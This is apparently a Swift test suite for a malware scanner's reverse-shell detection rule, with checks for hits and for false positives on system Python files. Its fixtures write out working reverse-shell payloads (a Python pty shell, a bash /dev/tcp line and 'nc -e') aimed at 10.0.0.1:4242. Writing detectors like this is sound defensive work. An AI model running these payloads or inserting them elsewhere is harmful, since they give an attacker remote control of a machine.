import Glibc
import Testing
@testable import VigilEngine
import VigilSystem
import VigilTestSupport

@Suite("Bundled rules: catch what they are for, stay quiet on a stock system")
struct BundledRulesTests {
    let dir = TempDir()

    static let pythonScript = """
        #!/usr/bin/env python3
        import socket,subprocess,os
        s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
        s.connect(("10.0.0.1",4242))
        os.dup2(s.fileno(),0)
        os.dup2(s.fileno(),1)
        os.dup2(s.fileno(),2)
        import pty
        pty.spawn("/bin/bash")

        """
    static let pythonOneLiner = "#!/bin/sh\npython3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        + "s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
        + "import pty; pty.spawn(\"/bin/sh\")'\n"

    @Test("Vigil_Dropper_Reverse_Shell", arguments: [
        ("python pty shell, script", pythonScript, true),
        ("python pty shell, one line", pythonOneLiner, true),
        ("python via subprocess.call", pythonOneLiner.replacingOccurrences(of: "os.dup2(s.fileno(),0);", with: "subprocess.call(['x']);"), true),
        ("bash /dev/tcp", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n", true),
        ("netcat -e", "#!/bin/sh\nnc 10.0.0.1 4242 -e /bin/sh\n", true),
        ("python shell with the 280-byte padding", pythonScript + String(repeating: "socket.socket(", count: 20), true),
        ("no #! line (documentation)", String(pythonScript.dropFirst(2)), false),
        ("socket without a pty shell", "#!/usr/bin/python3\nimport socket\ns=socket.socket()\nos.dup2(1,2)\n", false),
        ("pty.spawn far from the socket", "#!/usr/bin/python3\ns=socket.socket()\nos.dup2(1,2)\n"
            + String(repeating: "# filler\n", count: 200) + "pty.spawn('/bin/sh')\n", false),
        ("padding alone", "#!/usr/bin/python3\n" + String(repeating: "socket.socket(", count: 20), false),
    ] as [(String, String, Bool)])
    func reverseShell(_ label: String, _ text: String, _ found: Bool) throws {
        let r = try scanPath(dir.write("sample", text), try loadBundled())
        #expect(r.findings.map(\.name) == (found ? ["Vigil_Dropper_Reverse_Shell"] : []), "\(label)")
        #expect(r.problems.isEmpty, "\(label): \(r.problems)")
    }

    @Test("this machine's Python library: no finding, no error, no rule error",
          .enabled(if: access("/usr/lib/python3", R_OK) == 0))
    func stockPython() throws {
        let roots = ["/usr/lib/python3", "/usr/lib/python3.11"].filter { (p: String) in access(p, R_OK) == 0 }
        let (summary, got) = try runScan(roots, signatures: try loadBundled())
        let noisy = got.all.filter { $0.report.isFinding || !$0.report.problems.isEmpty }
            .map { "\($0.report.path): \($0.report.findings.map(\.name)) \($0.report.problems)" }
        #expect(summary.files > 1000)
        #expect(noisy.isEmpty, "\(noisy.prefix(5))")
        #expect(summary.errors == 0 && summary.ruleErrors == 0 && summary.infectedFiles == 0)
    }
}
